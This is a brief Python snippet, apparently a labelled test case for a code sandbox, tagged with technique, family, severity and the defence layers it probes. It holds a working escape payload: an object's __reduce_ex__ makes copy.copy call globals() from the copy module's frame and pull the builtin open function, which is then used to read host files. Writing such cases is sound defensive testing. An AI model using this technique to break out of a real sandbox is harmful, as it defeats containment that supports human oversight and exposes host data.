# technique: copying calls globals from the library's own frame
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

class Deputy:
    def __reduce_ex__(self, protocol):
        return (globals, ())

read_host(lambda: copy.copy(Deputy())["__builtins__"]["open"])
